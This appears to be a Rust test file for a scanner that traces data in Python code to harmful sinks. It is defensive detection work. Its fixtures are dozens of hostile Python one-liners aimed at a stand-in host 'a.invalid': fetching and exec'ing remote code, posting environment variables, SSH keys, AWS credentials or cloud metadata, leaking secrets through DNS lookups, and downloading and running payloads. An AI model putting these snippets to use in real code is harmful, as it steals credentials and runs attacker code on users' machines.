//! Data is followed from where it comes from to where it does harm.

use super::*;
use Label::*;
use SinkKind::*;

/// Code, what travels in it, and where it ends.
const HARM: &[(&str, Label, SinkKind)] = &[
    (
        "import requests\nexec(requests.get('https://a.invalid').text)",
        Net,
        Exec,
    ),
    (
        "import urllib.request as u\nc = u.urlopen('https://a.invalid').read().decode()\nexec(c)",
        Net,
        Exec,
    ),
    (
        "import requests\nr = requests.get('https://a.invalid')\neval(compile(r.content, '', 'exec'))",
        Net,
        Exec,
    ),
    (
        "import urllib.request as u\nwith u.urlopen('https://a.invalid') as r:\n    code = r.read()\nexec(code)",
        Net,
        Exec,
    ),
    (
        "import socket\ns = socket.socket()\ns.connect(('a.invalid', 1))\nexec(s.recv(4096))",
        Net,
        Exec,
    ),
    (
        "import http.client\nc = http.client.HTTPSConnection('a.invalid')\nc.request('GET', '/')\nexec(c.getresponse().read())",
        Net,
        Exec,
    ),
    (
        "import requests, base64\nexec(base64.b64decode(requests.get('https://a.invalid').text))",
        Decoded,
        Exec,
    ),
    (
        "import base64\nexec(base64.b64decode(unknown))",
        Decoded,
        Exec,
    ),
    ("import marshal\nexec(marshal.loads(b'abc'))", Code, Exec),
    (
        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'abc'))",
        Decrypted,
        Exec,
    ),
    (
        "exec(''.join(chr(ord(c) ^ k) for c in data))",
        Decoded,
        Exec,
    ),
    (
        "exec(bytes(a ^ b for a, b in zip(data, key)))",
        Decoded,
        Exec,
    ),
    ("exec(open('logo.png', 'rb').read()[10:])", OwnFile, Exec),
    (
        "import os\np = os.path.join(os.path.dirname(__file__), 'LICENSE')\nexec(open(p).read())",
        OwnFile,
        Exec,
    ),
    (
        "from pathlib import Path\nexec((Path(__file__).parent / 'a.wav').read_bytes())",
        OwnFile,
        Exec,
    ),
    (
        "import os, requests\nrequests.post('https://a.invalid', json=dict(os.environ))",
        EnvAll,
        Send,
    ),
    (
        "import os, requests\nrequests.post('https://a.invalid', data={k: v for k, v in os.environ.items()})",
        EnvAll,
        Send,
    ),
    (
        "import os, requests, json\nb = json.dumps(os.environ.copy())\nrequests.post('https://a.invalid', data=b)",
        EnvAll,
        Send,
    ),
    (
        "from os import environ\nimport requests\nrequests.get('https://a.invalid/?' + str(environ))",
        EnvAll,
        Send,
    ),
    (
        "import os, requests\nrequests.get(f'https://a.invalid/{os.environ[\"AWS_SECRET_ACCESS_KEY\"]}')",
        EnvSecret,
        Send,
    ),
    (
        "import os, requests\nrequests.get('https://a.invalid', params={'t': os.getenv('GH_TOKEN')})",
        EnvSecret,
        Send,
    ),
    (
        "import os, base64, urllib.request\nd = base64.b64encode(str(os.environ).encode())\nurllib.request.urlopen(urllib.request.Request('https://a.invalid', data=d))",
        EnvAll,
        Send,
    ),
    (
        "import os, requests\np = os.path.expanduser('~/.ssh/id_rsa')\nrequests.post('https://a.invalid', files={'f': open(p)})",
        SecretFile,
        Send,
    ),
    (
        "import requests\nfrom pathlib import Path\nk = (Path.home() / '.aws' / 'credentials').read_text()\nrequests.post('https://a.invalid', data=k)",
        SecretFile,
        Send,
    ),
    (
        "import socket\ns = socket.socket()\nwith open('/home/' + u + '/.ssh/id_rsa') as f:\n    s.sendall(f.read().encode())",
        SecretFile,
        Send,
    ),
    (
        "import socket, os, requests\nd = {'h': socket.gethostname(), 'c': os.getcwd()}\nrequests.post('https://a.invalid', json=d)",
        HostInfo,
        Send,
    ),
    (
        "import socket\nsocket.gethostbyname(socket.gethostname() + '.a.invalid')",
        HostInfo,
        Resolve,
    ),
    (
        "import os, socket\nsocket.getaddrinfo(f'{os.environ[\"SECRET\"]}.a.invalid', 80)",
        EnvSecret,
        Resolve,
    ),
    (
        "import pyperclip, requests\nrequests.post('https://a.invalid', data=pyperclip.paste())",
        Clipboard,
        Send,
    ),
    (
        "from PIL import ImageGrab\nimport requests, io\nb = io.BytesIO()\nImageGrab.grab().save(b)\ni = ImageGrab.grab()\nrequests.post('https://a.invalid', files={'i': i.tobytes()})",
        Screen,
        Send,
    ),
    (
        "import requests, os\nr = requests.get('https://a.invalid/x')\np = '/tmp/x'\nopen(p, 'wb').write(r.content)\nos.system(p)",
        Dropped,
        Command,
    ),
    (
        "import requests, subprocess\nr = requests.get('https://a.invalid/x')\nwith open(path, 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen([path])",
        Dropped,
        Command,
    ),
    (
        "import urllib.request, os\nurllib.request.urlretrieve('https://a.invalid/x', '/tmp/payload')\nos.system('chmod +x /tmp/payload && /tmp/payload')",
        Dropped,
        Command,
    ),
    (
        "import pickle, requests\npickle.loads(requests.get('https://a.invalid').content)",
        Net,
        Deserialise,
    ),
    (
        "import requests, os\nt = requests.get('http://169.254.169.254/latest/meta-data/').text\nrequests.post('https://a.invalid', data=t)",
        CloudMetadata,
        Send,
    ),
    (
        "import subprocess, requests\nrequests.post('https://a.invalid', data=subprocess.check_output(['make', 'report']))",
        Output,
        Send,
    ),
    (
        "import getpass, requests\nrequests.post('https://a.invalid', data=getpass.getpass())",
        UserInput,
        Send,
    ),
];

#[test]
fn data_is_followed_to_where_it_does_harm() {
    for (code, label, kind) in HARM {
        let found = flows("demo.py", code);
        assert!(found.contains(&(*label, *kind)), "{code}\n{found:?}");
    }
}

#[test]
fn data_is_followed_through_functions_containers_and_objects() {
    for code in [
        "import os, requests\ndef send(d):\n    requests.post('https://a.invalid', data=d)\nsend(os.environ)",
        "import os, requests\ndef get():\n    return dict(os.environ)\nrequests.post('https://a.invalid', data=get())",
        "import os, requests\ndef a(x):\n    b(x)\ndef b(y):\n    requests.post('https://a.invalid', data=y)\na(str(os.environ))",
        "import os, requests\ndef main():\n    requests.post('https://a.invalid', data=collect())\ndef collect():\n    return os.environ\nmain()",
        "import os, requests\ndata = {}\ndata['env'] = os.environ\nrequests.post('https://a.invalid', json=data)",
        "import os, requests\ndata = []\ndata.append(str(os.environ))\nrequests.post('https://a.invalid', json=data)",
        "import os, requests\ndata = []\nfor k, v in os.environ.items():\n    data.append(f'{k}={v}')\nrequests.post('https://a.invalid', data='\\n'.join(data))",
        "import os, requests\nclass C:\n    def __init__(self):\n        self.e = dict(os.environ)\n    def go(self):\n        requests.post('https://a.invalid', json=self.e)\nC().go()",
        "import os, requests\nclass C:\n    def send(self, d):\n        requests.post('https://a.invalid', json=d)\nC().send(os.environ)",
        "import os, requests\nf = lambda d: requests.post('https://a.invalid', json=d)\nf(os.environ)",
        "import os, requests\nlist(map(lambda d: requests.post('https://a.invalid', json=d), [os.environ]))",
        "import os, requests, threading\ndef go(d):\n    requests.post('https://a.invalid', json=d)\nthreading.Thread(target=go, args=(os.environ,)).start()",
        "import os, requests, functools\nfunctools.partial(requests.post, 'https://a.invalid')(json=os.environ)",
        "import os, requests\nrequests.post('https://a.invalid', **{'json': os.environ})",
        "import os, requests\nargs = ('https://a.invalid', os.environ)\nrequests.post(*args)",
        "import os, requests\ntry:\n    d = os.environ\nexcept Exception:\n    d = {}\nrequests.post('https://a.invalid', json=d)",
        "import os, requests\nd = ''\nif x:\n    d = str(os.environ)\nrequests.post('https://a.invalid', json=d)",
        "import os, requests\ndef outer():\n    d = os.environ\n    def inner():\n        requests.post('https://a.invalid', json=d)\n    inner()\nouter()",
        "import os, aiohttp, asyncio\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        async with s.post('https://a.invalid', json=dict(os.environ)) as r:\n            pass\nasyncio.run(go())",
        "import os, requests\ndef gen():\n    yield str(os.environ)\nfor d in gen():\n    requests.post('https://a.invalid', json=d)",
        "import os, requests\nwhile True:\n    requests.post('https://a.invalid', json=d)\n    d = os.environ",
        "import os, requests\nglobal_data = None\ndef fill():\n    global global_data\n    global_data = dict(os.environ)\ndef send():\n    requests.post('https://a.invalid', json=global_data)\nfill()\nsend()",
        "import os, smtplib\ns = smtplib.SMTP('a.invalid')\ns.sendmail('a', 'b', str(os.environ))",
        "import os\ndef leak(sock):\n    sock.sendall(str(os.environ).encode())",
    ] {
        let found = flows("demo.py", code);
        let leaves = found
            .iter()
            .any(|(label, kind)| *label == EnvAll && *kind == Send);
        assert!(leaves, "{code}\n{found:?}");
    }
}

#[test]
fn data_that_does_not_meet_is_no_flow() {
    for code in [
        "import os, requests\nprint(os.environ)\nrequests.get('https://a.invalid')",
        "import os, requests\nif 'DEBUG' in os.environ:\n    requests.get('https://a.invalid')",
        "import os, requests\nn = len(os.environ)\nrequests.get('https://a.invalid', params={'n': n})",
        "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ))",
        "import requests, subprocess\ndef run(cmd, **kw):\n    subprocess.call(cmd, **kw)\nfolder = requests.get('https://a.invalid').text\nrun(['make'], cwd=folder)",
        "import requests, json\njson.loads(requests.get('https://a.invalid').text)",
        "import base64\nx = base64.b64decode('aGVsbG8=')\nopen('a.png', 'wb')",
        "import os, requests\ndef f(d):\n    return requests.post('https://a.invalid', data=d)\nf('hello')\ne = os.environ",
        "import os, requests\nd = os.environ\nd = {}\nrequests.post('https://a.invalid', data=d)",
        "exec(open('demo/_version.py').read())",
        "import os, requests\nrequests.get(os.environ[name])",
        "import os, requests\nrequests.get(os.environ.get(name))",
        "import os, requests\ndef f(env):\n    requests.get(env['URL'])\n    requests.get(env.get('URL'))\nf(os.environ)",
        "exec(f'x{chr(10)}y')",
        "eval('lambda ' + chr(97) + ': 1')",
    ] {
        let found = flows("demo.py", code);
        let is_bad = |(label, kind): &(Label, SinkKind)| {
            !matches!(label, File | Env | Net) && matches!(kind, Exec | Send | Command)
        };
        assert!(!found.iter().any(is_bad), "{code}\n{found:?}");
    }
}

#[test]
fn a_chain_is_told_step_by_step() {
    let code = "import os, requests\n\ndef send(d):\n    requests.post('https://a.invalid', data=d)\n\nsend(str(os.environ))\n";
    let analysis = analysed("setup.py", code);
    let flow = analysis
        .flows
        .iter()
        .find(|flow| flow.label == EnvAll)
        .expect("a flow");
    let told: Vec<String> = flow
        .steps
        .iter()
        .map(|step| format!("{}: {}", step.place.line, step.text))
        .collect();
    assert_eq!(
        told,
        [
            "6: reads os.environ",
            "6: passed to send()",
            "4: sent over the network by requests.post",
        ]
    );
    assert_eq!(
        (&*flow.what, flow.context, &*flow.argument),
        ("os.environ", Context::Install, "data")
    );
    assert_eq!(&*analysis.sink(flow).target, "requests.post");
}
